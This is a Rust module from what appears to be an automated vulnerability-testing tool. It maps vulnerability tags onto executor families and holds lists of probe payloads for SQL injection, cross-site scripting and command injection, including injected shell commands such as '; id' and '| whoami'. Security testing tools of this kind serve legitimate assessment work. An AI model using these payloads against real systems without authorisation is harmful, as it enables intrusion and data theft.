use serde::{Deserialize, Serialize};

/// Executor family a task is routed to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum VulnType {
    SqlInjection,
    AuthBypass,
    FileUpload,
    Xss,
    CommandInjection,
    Generic,
}

impl VulnType {
    /// Map a free-form vulnerability tag (as produced by threat modeling)
    /// onto an executor family.
    pub fn from_tag(tag: &str) -> Self {
        let tag = tag.to_lowercase().replace(['-', ' '], "_");
        if tag.contains("sql") {
            Self::SqlInjection
        } else if tag.contains("auth") || tag.contains("login_bypass") {
            Self::AuthBypass
        } else if tag.contains("upload") {
            Self::FileUpload
        } else if tag.contains("xss") || tag.contains("cross_site_scripting") {
            Self::Xss
        } else if tag.contains("command") || tag.contains("rce") || tag.contains("os_injection") {
            Self::CommandInjection
        } else {
            Self::Generic
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::SqlInjection => "sql_injection",
            Self::AuthBypass => "authentication_bypass",
            Self::FileUpload => "file_upload",
            Self::Xss => "xss",
            Self::CommandInjection => "command_injection",
            Self::Generic => "generic",
        }
    }

    /// Parameter name used when a task carries no parameters of its own.
    pub fn default_parameter(&self) -> &'static str {
        match self {
            Self::SqlInjection => "id",
            Self::Xss => "q",
            Self::CommandInjection => "cmd",
            _ => "test",
        }
    }

    /// Alternate payloads tried when a response looks promising.
    pub fn variant_payloads(&self) -> &'static [&'static str] {
        match self {
            Self::SqlInjection => &[
                "' UNION SELECT 1,2,3--",
                "' OR 1=1 LIMIT 1--",
                "admin'/*",
                "1' OR '1'='1",
                "x' OR 1=1 OR 'x'='y",
            ],
            Self::Xss => &[
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
            ],
            Self::CommandInjection => &["; id", "| whoami", "; ls"],
            Self::AuthBypass | Self::FileUpload | Self::Generic => &[],
        }
    }
}

impl std::fmt::Display for VulnType {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_from_tag_aliases() {
        assert_eq!(VulnType::from_tag("SQL Injection"), VulnType::SqlInjection);
        assert_eq!(VulnType::from_tag("sqli"), VulnType::SqlInjection);
        assert_eq!(VulnType::from_tag("authentication_bypass"), VulnType::AuthBypass);
        assert_eq!(VulnType::from_tag("Auth-Bypass"), VulnType::AuthBypass);
        assert_eq!(VulnType::from_tag("file_upload"), VulnType::FileUpload);
        assert_eq!(VulnType::from_tag("Cross-Site Scripting"), VulnType::Xss);
        assert_eq!(VulnType::from_tag("command_injection"), VulnType::CommandInjection);
        assert_eq!(VulnType::from_tag("idor"), VulnType::Generic);
    }

    #[test]
    fn test_only_some_families_have_variants() {
        assert_eq!(VulnType::SqlInjection.variant_payloads().len(), 5);
        assert!(VulnType::AuthBypass.variant_payloads().is_empty());
        assert!(VulnType::Generic.variant_payloads().is_empty());
    }
}
